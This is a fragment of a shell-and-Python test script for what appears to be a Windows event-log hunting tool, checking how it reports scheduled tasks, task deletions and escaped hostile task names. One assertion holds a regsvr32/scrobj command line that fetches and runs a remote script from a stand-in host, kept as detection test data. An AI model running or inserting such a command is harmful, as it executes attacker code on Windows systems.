      and r.get("kind") == "task"}
assert sorted(fs) == [502, 506], fs
c = fs[506]["context"]
assert [p["command_line"] for p in c["ran"]] == \
    ["regsvr32.exe /s /u /i:http://203.0.113.9/u.sct scrobj.dll"], c
assert [e["record_id"] for e in c["task"]] == [505, 507, 508], c
assert fs[506]["event"]["summary"] == \
    "task \\Upd launched C:\\Windows\\System32\\regsvr32.exe (pid 5660)"
# \Updater's process is the 4698's: its 129 ran nothing of its own
assert fs[502]["context"]["ran"] == [], fs[502]
PYEOF
expect 1 "scan -a (task scheduler)" "$EVTXHUNT" scan -a -r "$RULES" "$W"
grep -q -F 'task \Upd deleted by CORP\bob' "$T/out" &&
    ok "a deletion on the timeline" || fail "no 141 on the timeline"
"$PY" - "$T/out" <<'PYEOF' && ok "a hostile task name is escaped" || fail "task name escaping"
import sys
t = open(sys.argv[1], encoding="utf-8", errors="replace").read()
assert "\x1b" not in t and "\x07" not in t
assert "task \\Tmp" in t and "owned" in t
PYEOF

finish
